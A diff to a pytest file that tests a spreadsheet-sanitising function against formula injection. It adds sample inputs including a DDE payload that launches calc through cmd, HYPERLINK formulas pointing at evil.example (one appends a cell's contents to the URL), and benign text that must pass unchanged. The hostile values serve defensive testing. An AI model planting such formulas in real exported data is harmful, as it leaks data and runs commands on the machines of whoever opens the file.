@@ -29,6 +29,11 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
         "＋1",
         "－1",
         "＠1",
+        "-5+3",
+        "+A1",
+        '-HYPERLINK("http://evil.example")',
+        "+cmd|' /C calc'!A0",
+        "-x +cmd|a",
     ],
     ids=[
         "equals",
@@ -43,6 +48,11 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
         "full-width plus",
         "full-width minus",
         "full-width at",
+        "sum",
+        "cell",
+        "call",
+        "dde",
+        "prose with a call",
     ],
 )
 def test_text_that_starts_a_formula_is_quoted(text):
@@ -50,7 +60,19 @@ def test_text_that_starts_a_formula_is_quoted(text):
 
 
 @pytest.mark.parametrize(
-    "value", ["Amina Diallo", "a = b", "", 42, -3, None, date(2031, 5, 12)]
+    "value",
+    [
+        "Amina Diallo",
+        "a = b",
+        "",
+        42,
+        -3,
+        None,
+        date(2031, 5, 12),
+        "-5 is not a formula",
+        "- a list item",
+        "+3 more seats for civil society",
+    ],
 )
 def test_other_values_stay_as_they_are(value):
     assert spreadsheet_safe(value) == value
